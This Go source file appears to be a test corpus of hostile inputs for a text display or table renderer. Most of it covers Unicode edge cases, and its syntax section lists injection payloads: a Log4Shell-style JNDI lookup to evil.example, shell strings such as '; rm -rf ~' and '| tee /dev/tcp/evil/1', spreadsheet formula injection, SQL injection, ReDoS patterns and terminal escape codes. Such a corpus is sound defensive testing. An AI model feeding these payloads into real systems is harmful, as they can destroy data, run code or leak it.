package hostile

import "strings"

// kib4 is the most that is kept of a text from the wire.
const kib4 = 4 << 10

// alphabets are texts that can be shown, and that a table of widths or a row may break on.
func alphabets() []class {
	piled := func(base, mark string, n int) string { return base + strings.Repeat(mark, n) }
	return []class{
		{"piled marks", []string{
			piled("four ", "", 0) + piled("e", "\u0301", 4), piled("five e", "\u0301", 5), piled("many e", "\u0301", 300), "\u0301\u0301\u0301leading",
			"Z\u0351\u036b\u0343a\u0329\u033c\u0348l\u0353\u0330\u0339\u032dg\u034e\u0331\u0326o\u0323\u0356\u0357\u034a\u033d\u030b\u030c", piled("\u0e01", "\u0e49", 60),
			piled("क", "\u0940", 9), piled("👍", "🏽", 9), piled("ｶ", "ﾞ", 9), piled("", "\u1100", 40), piled("\u1100", "\u1161", 40), piled("a", "\u20dd\u20e3", 8),
			piled("x\u0489", "\u0489", 7), "\u0488alone", piled("\u0bb8", "\u0bcd\u0bb0", 9), piled("ﷺ", "\u064b", 9), piled("\U0001d15e", "\U0001d165", 9),
		}},
		{"very long", []string{
			"a" + strings.Repeat("x", kib4-2), "b" + strings.Repeat("x", kib4-1), "c" + strings.Repeat("x", kib4), "d" + strings.Repeat("佐", kib4/3),
			"e" + strings.Repeat("x", kib4-2) + "\x1b[2J", "f" + strings.Repeat("e\u0301", kib4/3), "g" + strings.Repeat("\u200b", kib4), "h" + strings.Repeat("\x1b[2J", 1200),
			"i" + strings.Repeat("\x80", kib4+1), "j" + strings.Repeat("y", 1<<20), "k" + strings.Repeat(" ", 500) + "end", "l" + strings.Repeat("👩\u200d", 900),
		}},
		{"right to left", []string{
			"محمد علي", "שלום כהן", "محمد 1001", "1001 שלום", "אבג abc דהו", "ܐܒܓ", "ހދގ", "ߊߋߌ", "سلام \u200e x", "ﻢﺤﻣ",
		}},
		{"wide", []string{
			"佐藤　花子", "ｱｲｳｴｵ", "Ａｎａ　Ｒｕｉｚ", "한글 이름", "한글", "𠮷野家", "「」『』【】", "々〆〇ヶ", "﷽﷽﷽", "𒐫𒐫", "꧅꧅", "⸻⸻⸻", "㍿㌔㍍",
		}},
		{"ambiguous width", []string{"①②③", "αβγ", "±×÷", "■□▲△", "§¶†‡", "※→⇒∀", "─│┌┐└┘", "…‥", "ⅠⅡⅢ", "\u00b7\u2027\u30fb", "°℃Å"}},
		{"emoji", []string{
			"📞", "👍🏽", "🇯🇵🇪🇸", "🇯", "🇯🇵🇪", "☎", "✉", "⌚⏰⏺", "🫠🪿🫨", "🀄🃏", "⛔✅❌", "🅰🆎", "㊗㊙", "⏺ recorded", "👨🏿👩🏻",
		}},
		{"look-alikes", []string{
			"␛[2J", "␀␇␈␉␊␍␛␡", "↵", "● live", "○ PBX inactive", "│ 1001 │", "╭──────╮", "▸ 1001", "1OO1", "l00l", "Аna Ruiz", "１００１", "❶⓿⓿❶", "…", "\uFFFD\uFFFD\uFFFD",
			"unknown", "idle", "not registered", "in 801, from 1034", "***",
		}},
	}
}

// syntax are texts that mean something to whatever they are pasted into.
func syntax() []class {
	return []class{
		{"format strings", []string{"%s%s%s%n", "%x%p%d%!v", "%[1]*.[2]*[3]f", "{{.Secret}}", "${jndi:ldap://evil.example/a}", "{0}{1}", "%", "%!s(MISSING)"}},
		{"shell", []string{"$(reboot)", "`reboot`", "; rm -rf ~", "a && b || c", "| tee /dev/tcp/evil/1", "'\"'\"'", "~root", "*", "--help", "-rf", "\\", "$IFS$9", "name=x", "a:=b"}},
		{"formulas", []string{"=cmd|'/c calc'!A1", "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "=HYPERLINK(\"http://evil.example\")", "\"a\",\"b\"", "a,b;c\td", "\r=1+1"}},
		{"patterns", []string{"(a+)+$", "(.*)*", "[", "(?=x)", "(?P<n>", "a{1000}{1000}", "\\Q", ".*", "^$", "((((((((((((((((((((((a))))))))))))"}},
		{"markup", []string{
			"**bold** [x](javascript:1)", "<b>x</b><script>1</script>", "&#27;[2J", "&lt;", "]]>", "<!--", "\\u001b[2J", "\\x1b[2J", "\\033[2J", "^[[2J", "\\e]0;x\\a", "=1B[2J", "%1B%5B2J",
		}},
		{"JSON and SQL", []string{
			"\",\"status\":\"-1", "\"}}]", "{\"method\":\"notify_pal\"}", "null", "true", "0", "-1", "1e309", "'; DROP TABLE journal; --", "\" OR 1=1", "NaN", "[]", "failed: no", " FAIL",
		}},
		{"blank", []string{" ", "  ", "\u3000", "   lead", "trail   ", "in   side"}},
	}
}
